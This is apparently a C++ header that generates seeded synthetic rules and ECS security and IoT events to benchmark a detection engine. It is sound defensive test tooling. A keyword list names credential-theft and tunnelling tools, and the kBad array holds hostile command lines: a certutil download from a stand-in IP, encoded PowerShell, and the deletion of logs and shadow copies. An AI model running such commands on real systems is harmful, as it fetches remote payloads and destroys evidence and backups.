// The benchmark suite's workloads (issue 9): seeded, deterministic event files and the
// generated rules. Used by suite_bench.cc only.
#pragma once

#include <time.h>

#include <cstdint>
#include <cstdio>
#include <iterator>
#include <random>
#include <string>
#include <vector>

namespace vigil::bench {

// One generated string predicate and a text that satisfies it.
struct GenPredicate {
  enum class Field { kCommandLine, kUrlPath, kUserName } field;
  enum class Op { kIContains, kStartsWith, kEndsWith, kRegex } op;
  bool caseless = false;  // regexes
  std::string text;       // needle or regex (regex syntax shared by Vigil, PCRE2 and ECMAScript)
  std::string sample;     // a value (or part of one) that makes it true
};

// A generated rule: where: 'p[0] and (p[1] or p[2] or p[3] or p[4])', keyed by host.name.
struct GenRule {
  std::vector<GenPredicate> preds;
};

inline const char* const kTools[] = {
    "mimikatz", "psexec",   "procdump", "rubeus",   "sharphound", "certutil", "bitsadmin",
    "regsvr32", "rundll32", "mshta",    "wmic",     "vssadmin",   "wbadmin",  "bcdedit",
    "schtasks", "netsh",    "cscript",  "wscript",  "msbuild",    "regasm",   "cmstp",
    "forfiles", "msiexec",  "esentutl", "ntdsutil", "adfind",     "nltest",   "dsquery",
    "lazagne",  "nanodump", "seatbelt", "chisel",   "plink",      "rclone",   "7za"};
inline const char* const kFlags[] = {"urlcache", "split",  "decode",  "encodedcommand", "bypass",
                                     "transfer", "hidden", "minidump", "dumpcreds",     "exfil",
                                     "tunnel",   "socks",  "upload",  "archive",        "inject"};

// A lowercase token unique to rule j (base 26, at least 4 letters).
inline std::string RuleToken(size_t j) {
  std::string s;
  size_t v = j + 26 * 26 * 26;
  while (v > 0) {
    s.push_back(static_cast<char>('a' + v % 26));
    v /= 26;
  }
  return s;
}

// `n` rules of five predicates each, every predicate distinct (so the shared scan has
// 5n of them): p0 a keyword on the command line, p1 a regex on it, p2 a url.path prefix,
// p3 a url.path regex, p4 a user.name suffix.
inline std::vector<GenRule> MakeRules(size_t n, uint64_t seed) {
  std::mt19937_64 rng(seed);
  std::vector<GenRule> out;
  for (size_t j = 0; j < n; ++j) {
    const std::string tok = RuleToken(j);
    const std::string tool = kTools[rng() % std::size(kTools)];
    const std::string flag = kFlags[rng() % std::size(kFlags)];
    GenRule r;
    using F = GenPredicate::Field;
    using O = GenPredicate::Op;
    r.preds.push_back({F::kCommandLine, O::kIContains, false, tool + "_" + tok + ".exe", tool + "_" + tok + ".exe"});
    r.preds.push_back({F::kCommandLine, O::kRegex, true, tool + "_" + tok + "(\\.exe)?\\s+.*-" + flag + "[ =:][^ ]{2,}",
                       tool + "_" + tok + ".exe -q -" + flag + "=abcd"});
    r.preds.push_back({F::kUrlPath, O::kStartsWith, false, "/" + tok + "/admin/", "/" + tok + "/admin/x"});
    r.preds.push_back({F::kUrlPath, O::kRegex, false, "^/api/v[0-9]+/" + tok + "/[0-9]+/export$",
                       "/api/v2/" + tok + "/17/export"});
    r.preds.push_back({F::kUserName, O::kEndsWith, false, "_" + tok + "_svc", "x_" + tok + "_svc"});
    out.push_back(std::move(r));
  }
  return out;
}

inline const char* FieldName(GenPredicate::Field f) {
  switch (f) {
    case GenPredicate::Field::kCommandLine: return "process.command_line";
    case GenPredicate::Field::kUrlPath: return "url.path";
    case GenPredicate::Field::kUserName: return "user.name";
  }
  return "";
}

inline std::string PredicateExpr(const GenPredicate& p) {
  std::string e = std::string(FieldName(p.field)) + " ";
  if (p.op == GenPredicate::Op::kRegex) {
    std::string re;
    for (char c : p.text) {
      if (c == '/') re.push_back('\\');
      re.push_back(c);
    }
    return e + "matches /" + re + "/" + (p.caseless ? "i" : "");
  }
  static const char* const kOps[] = {"icontains", "startswith", "endswith"};
  std::string lit;
  for (char c : p.text) {
    if (c == '\\' || c == '"') lit.push_back('\\');
    lit.push_back(c);
  }
  return e + kOps[static_cast<int>(p.op)] + " \"" + lit + "\"";
}

inline std::string RulesYaml(const std::vector<GenRule>& rules) {
  std::string y = "rules:\n";
  for (size_t j = 0; j < rules.size(); ++j) {
    const auto& p = rules[j].preds;
    std::string expr = PredicateExpr(p[0]) + " and (" + PredicateExpr(p[1]) + " or " + PredicateExpr(p[2]) +
                       " or " + PredicateExpr(p[3]) + " or " + PredicateExpr(p[4]) + ")";
    std::string quoted;
    for (char c : expr) {
      if (c == '\'') quoted.push_back('\'');
      quoted.push_back(c);
    }
    y += "  - id: gen-" + std::to_string(j) + "\n    title: generated rule " + std::to_string(j) +
         "\n    severity: medium\n    key: [host.name]\n    where: '" + quoted + "'\n    suppress: 10m\n";
  }
  return y;
}

// RFC 3339 with milliseconds, UTC.
inline void FormatTime(int64_t ms, char* out) {
  time_t s = static_cast<time_t>(ms / 1000);
  tm t{};
  gmtime_r(&s, &t);
  size_t n = strftime(out, 24, "%Y-%m-%dT%H:%M:%S", &t);
  const int frac = static_cast<int>(ms % 1000);
  out[n] = '.';
  out[n + 1] = static_cast<char>('0' + frac / 100);
  out[n + 2] = static_cast<char>('0' + frac / 10 % 10);
  out[n + 3] = static_cast<char>('0' + frac % 10);
  out[n + 4] = 'Z';
  out[n + 5] = '\0';
}

constexpr int64_t kStartMs = 1733788800000;  // 2024-12-10T00:00:00Z

// soc: ECS auth, process and network events, ~300 bytes, 100k source addresses, 1k users,
// 2k hosts; one event per millisecond. `partition_key` gets what a key-partitioned
// transport would partition by (source.ip, or host.name for process events).
class SocGenerator {
 public:
  SocGenerator(uint64_t seed, const std::vector<GenRule>* rules) : rng_(seed), rules_(rules) {}

  std::string Next(int64_t i, std::string* partition_key) {
    char ts[32];
    FormatTime(kStartMs + i, ts);
    const unsigned kind = rng_() % 100;
    // 1% of addresses are attackers and send a fifth of the failed logins.
    const bool attacker = rng_() % 5 == 0;
    const uint64_t ipn = attacker ? rng_() % 1000 : rng_() % 100000;
    const std::string ip = "10." + std::to_string(ipn >> 16) + "." + std::to_string((ipn >> 8) & 255) + "." +
                           std::to_string(ipn & 255);
    const std::string user = "user" + std::to_string(rng_() % 1000);
    const std::string host = "srv-" + std::to_string(rng_() % 2000);
    std::string e = std::string("{\"@timestamp\":\"") + ts + "\",";
    if (kind < 35) {  // sshd (Filebeat system/auth)
      const bool ok = !attacker && rng_() % 50 == 0;
      e += "\"event\":{\"category\":\"authentication\",\"action\":\"ssh_login\",\"outcome\":\"";
      e += ok ? "success" : "failure";
      e += "\"},\"user\":{\"name\":\"" + user + "\"},\"source\":{\"ip\":\"" + ip + "\",\"port\":" +
           std::to_string(30000 + rng_() % 30000) + "},\"host\":{\"name\":\"" + host +
           "\"},\"process\":{\"name\":\"sshd\",\"pid\":" + std::to_string(1000 + rng_() % 30000) +
           "},\"log\":{\"file\":{\"path\":\"/var/log/auth.log\"}},\"agent\":{\"type\":\"filebeat\",\"version\":\"8.11.1\"}}";
      *partition_key = ip;
    } else if (kind < 45) {  // Windows logons with GeoIP
      const bool ok = rng_() % 3 != 0;
      const char* country = rng_() % 200 == 0 ? "DE" : "US";
      e += std::string("\"event\":{\"category\":\"authentication\",\"action\":\"") + (ok ? "logged-in" : "logon-failed") +
           "\",\"code\":\"" + (ok ? "4624" : "4625") + "\",\"outcome\":\"" + (ok ? "success" : "failure") +
           "\",\"provider\":\"Microsoft-Windows-Security-Auditing\"},\"user\":{\"name\":\"" + user +
           "\",\"domain\":\"CORP\"},\"source\":{\"ip\":\"" + ip + "\",\"geo\":{\"country_iso_code\":\"" + country +
           "\"}},\"host\":{\"name\":\"" + host + "\"},\"winlog\":{\"channel\":\"Security\",\"record_id\":" +
           std::to_string(i) + "}}";
      *partition_key = ip;
    } else if (kind < 80) {  // process starts
      std::string cmd = CommandLine();
      std::string u = user;
      if (!rules_->empty() && rng_() % 5000 == 0) {
        // A generated rule's keyword and regex, or its user suffix.
        const GenRule& r = (*rules_)[rng_() % rules_->size()];
        cmd = "C:\\Tools\\" + r.preds[1].sample + " " + cmd.substr(0, 60);
        if (rng_() % 2) u = r.preds[4].sample;
      }
      std::string esc;
      for (char c : cmd) {
        if (c == '\\' || c == '"') esc.push_back('\\');
        esc.push_back(c);
      }
      e += "\"event\":{\"category\":\"process\",\"action\":\"exec\",\"type\":\"start\"},\"host\":{\"name\":\"" + host +
           "\"},\"user\":{\"name\":\"" + u + "\"},\"process\":{\"name\":\"" + ProcessName(cmd) +
           "\",\"pid\":" + std::to_string(1000 + rng_() % 60000) + ",\"command_line\":\"" + esc +
           "\",\"parent\":{\"name\":\"explorer.exe\"}}}";
      *partition_key = host;
    } else {  // connections (firewall / proxy)
      const bool scan = attacker && rng_() % 2 == 0;
      const unsigned port = scan ? static_cast<unsigned>(rng_() % 1024) : (rng_() % 4 == 0 ? 80u : 443u);
      std::string path = "/api/v1/items/" + std::to_string(rng_() % 100000);
      if (!rules_->empty() && rng_() % 2000 == 0) path = (*rules_)[rng_() % rules_->size()].preds[3].sample;
      e += "\"event\":{\"category\":\"network\",\"action\":\"connection\",\"outcome\":\"success\"},\"source\":{\"ip\":\"" + ip +
           "\",\"port\":" + std::to_string(30000 + rng_() % 30000) + "},\"destination\":{\"ip\":\"172.16." +
           std::to_string(rng_() % 256) + "." + std::to_string(rng_() % 256) + "\",\"port\":" + std::to_string(port) +
           "},\"network\":{\"transport\":\"tcp\",\"protocol\":\"http\"},\"url\":{\"path\":\"" + path +
           "\"},\"host\":{\"name\":\"fw-1\"},\"observer\":{\"vendor\":\"pfsense\"}}";
      *partition_key = ip;
    }
    return e;
  }

 private:
  std::string CommandLine() {
    static const char* const kBenign[] = {
        "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe --type=renderer --field-trial-handle=",
        "C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s Schedule /prefetch:",
        "C:\\Program Files\\Microsoft VS Code\\Code.exe --ms-enable-electron-run-as-node --id=",
        "/usr/bin/python3 /opt/app/manage.py runserver 0.0.0.0:8000 --settings=",
        "/usr/lib/jvm/java-17/bin/java -Xmx2g -jar /srv/app/service.jar --spring.profiles.active=",
        "/bin/bash -c /usr/local/bin/backup.sh --target /mnt/backup --tag=",
    };
    // Rare command lines the shipped rules look for.
    static const char* const kBad[] = {
        "certutil.exe -urlcache -split -f http://203.0.113.9/a.exe C:\\Users\\Public\\a.exe",
        "powershell.exe -NoProfile -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIAA=",
        "rm -rf /var/log/auth.log /var/log/auth.log.1",
        "vssadmin.exe delete shadows /all /quiet",
        "bash -c history -c && exit",
    };
    if (rng_() % 10000 == 0) return kBad[rng_() % std::size(kBad)];
    std::string c = kBenign[rng_() % std::size(kBenign)];
    static const char kHex[] = "0123456789abcdef";
    for (int k = 0; k < 16; ++k) c.push_back(kHex[rng_() % 16]);
    return c;
  }
  static std::string ProcessName(const std::string& cmd) {
    size_t end = cmd.find(' ');
    std::string first = cmd.substr(0, end);
    size_t slash = first.find_last_of("\\/");
    return slash == std::string::npos ? first : first.substr(slash + 1);
  }

  std::mt19937_64 rng_;
  const std::vector<GenRule>* rules_;
};

// iot: readings from 50k devices (a temperature or humidity sensor each), heartbeats from
// the 10k gateways among them (some fall silent: absences), door contacts, tamper and
// status reports, firmware updates; one event per 100 µs.
class IotGenerator {
 public:
  IotGenerator(uint64_t seed, size_t devices) : rng_(seed), devices_(devices), last_(devices, 20.0) {}

  std::string Next(int64_t i) {
    char ts[32];
    FormatTime(kStartMs + i / 10, ts);
    const size_t d = rng_() % devices_;
    char id[32];
    std::snprintf(id, sizeof id, "dev-%05zu", d);
    std::string e = std::string("{\"@timestamp\":\"") + ts + "\",\"device\":{\"id\":\"" + id + "\"";
    const unsigned kind = rng_() % 100;
    if (kind < 80) {
      const bool humidity = d % 4 == 0;
      double v = last_[d] + static_cast<double>(static_cast<int>(rng_() % 21) - 10) / 10.0;
      if (v < 5 || v > 45) v = 20;
      last_[d] = v;
      if (rng_() % 1000 == 0) v += 35;  // a spike
      char num[32];
      std::snprintf(num, sizeof num, "%.1f", v);
      e += std::string(",\"type\":\"thermo-hygrometer\"},\"site\":{\"id\":\"site-") + std::to_string(d % 40) +
           "\"},\"event\":{\"action\":\"reading\"},\"sensor\":{\"type\":\"" + (humidity ? "humidity" : "temperature") +
           "\"},\"value\":" + num + ",\"unit\":\"" + (humidity ? "%" : "C") + "\"}";
    } else if (kind < 92) {
      // Gateways (every fifth device) heartbeat; one in 200 stops after the first tenth.
      const size_t g = d - d % 5;
      char gid[32];
      std::snprintf(gid, sizeof gid, "dev-%05zu", g);
      if (g % 1000 == 0 && i > 100000) return Next(i);
      e = std::string("{\"@timestamp\":\"") + ts + "\",\"device\":{\"id\":\"" + gid +
          "\",\"type\":\"lorawan-gateway\"},\"site\":{\"id\":\"site-" + std::to_string(g % 40) +
          "\",\"local_hour\":3},\"event\":{\"action\":\"heartbeat\"},\"firmware\":{\"version\":\"4.1.7\"}}";
    } else if (kind < 97) {
      // Door contacts: open then closed; one open in 100 is never closed.
      const size_t door = d % 2000;
      const bool open = (rng_() % 2 == 0);
      if (!open && rng_() % 100 == 0) return Next(i);
      e = std::string("{\"@timestamp\":\"") + ts + "\",\"device\":{\"id\":\"door-" + std::to_string(door) +
          "\",\"type\":\"door-contact\"},\"door\":{\"name\":\"door " + std::to_string(door) + "\",\"state\":\"" +
          (open ? "open" : "closed") + "\"},\"event\":{\"action\":\"door\"}}";
    } else if (kind < 99) {
      e += std::string(",\"status\":\"") + (rng_() % 10 == 0 ? "offline" : "online") +
           "\"},\"event\":{\"action\":\"status\"}}";
    } else if (rng_() % 4 != 0) {
      e += "},\"event\":{\"action\":\"tamper\"},\"tamper\":{\"reason\":\"enclosure_opened\"}}";
    } else {
      e += std::string("},\"site\":{\"id\":\"site-1\",\"local_hour\":") + std::to_string(rng_() % 24) +
           "},\"event\":{\"action\":\"firmware_update\"},\"firmware\":{\"version\":\"4.2.0\",\"previous_version\":\"4.1.7\"}}";
    }
    return e;
  }

 private:
  std::mt19937_64 rng_;
  size_t devices_;
  std::vector<double> last_;
};

}  // namespace vigil::bench
